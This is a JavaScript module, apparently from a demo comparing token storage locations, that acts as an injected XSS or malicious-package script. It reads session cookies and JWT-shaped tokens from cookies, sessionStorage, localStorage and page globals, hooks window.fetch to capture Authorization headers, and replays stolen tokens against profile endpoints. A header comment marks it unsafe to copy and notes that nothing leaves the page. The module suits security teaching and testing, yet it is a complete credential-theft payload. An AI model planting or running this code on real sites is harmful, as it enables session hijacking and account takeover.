// UNSAFE TO COPY. It acts as an injected script: a malicious package, or text that was inserted as HTML (XSS).
// It imports nothing and gets no data: it takes only what any script on the page can access. The loot stays here.

const TOKEN = /eyJ[\w-]+\.[\w-]+\.[\w-]+/;
const PAGES = { session: "/session/profile", backend: "/backend/profile" };
const OF_TOKENS = "/token/profile";

/** What a script can read directly, by place; null if it finds nothing. */
export function read() {
  return {
    session: cookie("sot_sid"),
    backend: cookie("sot_sid"),
    cookie: cookie("sot_access"),
    readable: cookie("sot_readable_access"),
    sessionStorage: tokenIn(Object.values(sessionStorage)),
    localStorage: tokenIn(Object.values(localStorage)),
    memory: tokenIn(globals()),
  };
}

/** Replace `fetch` and wait. Return a function that restores it and returns the intercepted token. */
export function lieInWait() {
  const own = window.fetch;
  let caught = null;
  window.fetch = (input, options) => {
    caught ??= tokenIn([new Headers(options?.headers ?? input.headers).get("Authorization") ?? ""]);
    return own(input, options);
  };
  return () => {
    window.fetch = own;
    return caught;
  };
}

/** Send a request like the page: the browser adds its cookies, and the stolen token is in the header. */
export function use(place, stolen) {
  if (!(place in PAGES) && place !== "cookie" && stolen === null) return null;
  return stolen === null ? whoAmI(PAGES[place] ?? OF_TOKENS, {}, "same-origin") : whoAmI(OF_TOKENS, bearer(stolen), "omit");
}

/** Send what another machine could send: the stolen credential, without this browser's cookies. */
export function useElsewhere(place, stolen) {
  return whoAmI(PAGES[place] ?? OF_TOKENS, stolen === null ? {} : bearer(stolen), "omit");
}

async function whoAmI(path, headers, credentials) {
  const response = await fetch(path, { headers, credentials });
  return (await response.json()).member?.username ?? null;
}

function bearer(token) {
  return { Authorization: `Bearer ${token}` };
}

function cookie(name) {
  return document.cookie.split("; ").find((pair) => pair.startsWith(`${name}=`))?.slice(name.length + 1) ?? null;
}

function tokenIn(texts) {
  return texts.map((text) => text.match(TOKEN)?.[0]).find(Boolean) ?? null;
}

/** The page's global variables with text. Getters are not called. */
function globals() {
  const found = Object.values(Object.getOwnPropertyDescriptors(window)).map(({ value }) => value);
  return found.filter((value) => typeof value === "string");
}
